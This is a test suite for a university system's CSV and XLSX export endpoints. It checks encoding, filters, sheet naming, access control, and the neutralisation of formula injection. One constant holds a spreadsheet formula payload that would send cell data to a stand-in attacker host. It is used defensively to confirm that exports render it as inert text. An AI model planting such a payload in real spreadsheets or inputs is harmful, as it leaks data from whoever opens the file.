/**
 * Exports downloaded and read back: CSV with its byte-order mark, Cyrillic intact and a partner
 * named like a formula neutralised; XLSX parsed back with exceljs, the same name as text; the
 * nominations export with its filters; who may download.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nominationBody, startHarness, type Harness } from '../support/harness';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

let h: Harness;
let admin: string;
let faculty: string;

beforeAll(async () => {
  h = await startHarness('exports');
  [admin, faculty] = await Promise.all([h.signIn('admin@uni.example'), h.signIn('faculty@uni.example')]);
  const partner = await h.post('/api/partners', { name: EVIL, names: { ru: 'Злой университет' }, country: 'KZ', city: 'Almaty', website: 'https://evil.example' }, { cookie: admin });
  expect(partner.status).toBe(201);
  for (const academicYear of ['2026/2027', '2027/2028']) {
    expect((await h.post('/api/nominations', nominationBody({ academicYear }), { cookie: faculty })).status).toBe(201);
  }
});
afterAll(() => h?.stop());

/** Naive RFC 4180 reading, enough for these files. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += ch;
  }
  return rows;
}

async function csv(path: string, cookie = admin) {
  const res = await h.get(path, { cookie });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/);
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parseCsv(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1));
}

describe('the partners export', () => {
  it('is CSV with a byte-order mark, Cyrillic as written, and the formula-named partner neutralised', async () => {
    const rows = await csv('/api/exports/partners');
    expect(rows[0]).toEqual(['id', 'name', 'name (ru)', 'name (uz)', 'country', 'city', 'website', 'Erasmus code', 'SCHAC id', 'type']);
    const evil = rows.find((r) => r[2] === 'Злой университет')!;
    expect(evil[1]).toBe(`'${EVIL}`);
    expect(rows.some((r) => r[2] === 'Ошский государственный университет')).toBe(true);
  });

  it('is XLSX read back by exceljs with the same name as text, not a formula', async () => {
    const res = await h.get('/api/exports/partners?format=xlsx', { cookie: admin });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const sheet = workbook.worksheets[0]!;
    const names: ExcelJS.Cell[] = [];
    sheet.eachRow((row) => names.push(row.getCell(2)));
    const evil = names.find((c) => c.value === EVIL)!;
    expect(evil.type).toBe(ExcelJS.ValueType.String);
    expect(evil.formula).toBeUndefined();
    expect(names.some((c) => c.value === 'Osh State University')).toBe(true);
  });
});

describe('the registers and the statistics', () => {
  it('export the agreements registry, and the nominations with the list’s filters applied', async () => {
    const agreements = await csv('/api/exports/agreements');
    expect(agreements.length).toBeGreaterThan(5);
    const all = await csv('/api/exports/nominations');
    expect(all.length).toBe(3);
    const filtered = await csv('/api/exports/nominations?academicYear=2026/2027&status=in_review');
    expect(filtered.slice(1).map((r) => r[10])).toEqual(['2026/2027']);
    expect((await csv('/api/exports/nominations?status=completed')).length).toBe(1);
  });

  it('export each nomination’s format and dates, and filter by the format', async () => {
    const [header, ...rows] = await csv('/api/exports/nominations');
    const at = (name: string) => header!.indexOf(name);
    expect(header!.slice(at('period'), at('partner'))).toEqual(['period', 'format', 'planned start', 'planned end', 'physical start', 'physical end', 'staff hours', 'subject']);
    for (const row of rows) {
      expect(row[at('format')]).toBe('physical');
      // The example's academic year overridden: its planned dates dropped (the period's usual ones).
      expect([row[at('planned start')], row[at('planned end')]]).toEqual(['', '']);
    }
    expect((await csv('/api/exports/nominations?mobilityFormat=physical')).length).toBe(rows.length + 1);
    expect(await csv('/api/exports/nominations?mobilityFormat=virtual')).toEqual([header]);
    expect((await h.get('/api/exports/nominations?mobilityFormat=online', { cookie: admin })).status).toBe(400);
  });

  it('export every statistics table', async () => {
    expect((await csv('/api/exports/reports/mobilities?years=2026,2027&by=direction&status=all')).slice(1)).toEqual([
      ['2026/2027', 'outgoing', '1', '5'],
      ['2027/2028', 'outgoing', '1', '5'],
    ]);
    for (const path of ['agreements?by=country', 'agreements?view=expiring', 'places?years=2026', 'balance?years=2026', 'yearly?year=2026']) {
      expect((await csv(`/api/exports/reports/${path}`)).length, path).toBeGreaterThan(0);
    }
  });

  it('are the international office’s: a faculty member gets 403', async () => {
    for (const path of ['agreements', 'nominations', 'partners', 'reports/mobilities', 'reports/yearly']) {
      expect((await h.get(`/api/exports/${path}`, { cookie: faculty })).status, path).toBe(403);
    }
  });
});

describe('a page’s tables as one workbook', () => {
  const sheet = (name: string, rows: (string | number | null)[][]) => ({ name, columns: ['Показатель', 'Число'], rows });
  const body = {
    name: 'Годовой отчёт 2025',
    sheets: [
      sheet('Итоги года', [['Подписано меморандумов', 3], ['Страны', 2]]),
      sheet('Партнёры по странам: [31 декабря 2025 г.] и длинное имя', [[EVIL, 1], ['Ошский государственный университет', null]]),
      sheet('итоги года', [['то же имя, другой регистр', 0]]),
    ],
  };

  it('has a sheet per table, in order, named as Excel allows, with numbers as numbers and text as text', async () => {
    const res = await h.post('/api/exports/workbook', body, { cookie: admin });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="2025.xlsx"; filename*=UTF-8''${encodeURIComponent('Годовой отчёт 2025.xlsx')}`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Итоги года', 'Партнёры по странам 31 декабря', 'итоги года (2)']);
    const [figures, partners] = workbook.worksheets as [ExcelJS.Worksheet, ExcelJS.Worksheet];
    expect(figures.getRow(1).values).toEqual([undefined, 'Показатель', 'Число']);
    expect(figures.getCell('B2').value).toBe(3);
    expect(figures.getCell('B2').type).toBe(ExcelJS.ValueType.Number);
    const evil = partners.getCell('A2');
    expect({ value: evil.value, type: evil.type, formula: evil.formula }).toEqual({ value: EVIL, type: ExcelJS.ValueType.String, formula: undefined });
    expect(partners.getCell('B3').value).toBeNull();
  });

  it('is the international office’s, and refuses what is not a workbook naming the field', async () => {
    expect((await h.post('/api/exports/workbook', body, { cookie: faculty })).status).toBe(403);
    const noSheets = await h.post('/api/exports/workbook', { ...body, sheets: [] }, { cookie: admin });
    expect(noSheets.status).toBe(400);
    expect(((await noSheets.json()) as { fields: { path: string }[] }).fields.map((f) => f.path)).toEqual(['sheets']);
    const object = await h.post('/api/exports/workbook', { ...body, sheets: [sheet('x', [[{ formula: 'A1' } as never]])] }, { cookie: admin });
    expect(object.status).toBe(400);
  });
});
